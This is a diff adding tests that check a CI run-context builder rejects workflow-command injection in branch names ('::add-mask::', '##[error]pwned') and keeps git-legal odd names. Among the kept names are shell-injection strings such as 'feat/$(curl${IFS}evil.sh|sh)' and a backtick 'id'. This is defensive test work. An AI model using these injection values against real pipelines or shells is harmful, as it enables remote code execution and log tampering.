@@ -179,6 +179,49 @@ describe('buildRunContext', () => {
     expect(error.message).toBe(message);
   });
 
+  // Payload fields that name branches must be names git could hold: `::`, `[` and line
+  // breaks would otherwise reach log lines (the plan is printed) as workflow commands.
+  const RULE = 'must be a git branch name: must not contain spaces, control characters or any of ~ ^ : ? * [ \\';
+  const hostileRefs: [string, string][] = [
+    ['::add-mask::x', `${RULE} (got ":\\u003aadd-mask:\\u003ax")`],
+    ['##[error]pwned', `${RULE} (got "##\\u005berror]pwned")`],
+    ['x\n::error::pwned', `${RULE} (got "x\\n:\\u003aerror:\\u003apwned")`],
+    ['two words', `${RULE} (got "two words")`],
+    ['a..b', `must be a git branch name: must not contain '..' (got "a..b")`],
+    ['a@{1}', `must be a git branch name: must not contain '@{' (got "a@{1}")`],
+  ];
+  it.each(hostileRefs)('refuses a pull request head ref %j', (ref, rule) => {
+    const payload = fixture('pull_request.json');
+    (payload.pull_request as { head: Record<string, unknown> }).head.ref = ref;
+    const error = thrown(() => buildRunContext(PR_ENV, payload));
+    expect(error).toBeInstanceOf(ContextError);
+    expect(error.message).toBe(`event payload pull_request.head.ref: ${rule}`);
+  });
+
+  it.each(hostileRefs)('refuses a repository default branch %j', (ref, rule) => {
+    const error = thrown(() => buildRunContext(ENV, { repository: { default_branch: ref } }));
+    expect(error).toBeInstanceOf(ContextError);
+    expect(error.message).toBe(`event payload repository.default_branch: ${rule}`);
+  });
+
+  it('ignores a pull request with a hostile head ref on events that do not need one', () => {
+    const payload = fixture('pull_request.json');
+    (payload.pull_request as { head: Record<string, unknown> }).head.ref = '##[error]pwned';
+    expect(buildRunContext({ ...ENV, GITHUB_EVENT_NAME: 'pull_request_review' }, payload).pullRequest).toBeUndefined();
+  });
+
+  it.each(['feat/$(curl${IFS}evil.sh|sh)', 'feat/`id`', 'zzz";echo${IFS}"hello";#', 'release/ü-1', '+plus'])(
+    'keeps a branch name git accepts, however odd: %j',
+    (ref) => {
+      const payload = fixture('pull_request.json');
+      (payload.pull_request as { head: Record<string, unknown> }).head.ref = ref;
+      (payload.repository as Record<string, unknown>).default_branch = ref;
+      const context = buildRunContext(PR_ENV, payload);
+      expect(context.pullRequest?.headRef).toBe(ref);
+      expect(context.payloadDefaultBranch).toBe(ref);
+    },
+  );
+
   it('ignores an incomplete pull_request on events that do not need one', () => {
     const env = { ...ENV, GITHUB_EVENT_NAME: 'pull_request_review', GITHUB_REF: 'refs/pull/42/merge' };
     expect(buildRunContext(env, { pull_request: { number: 42 } }).pullRequest).toBeUndefined();
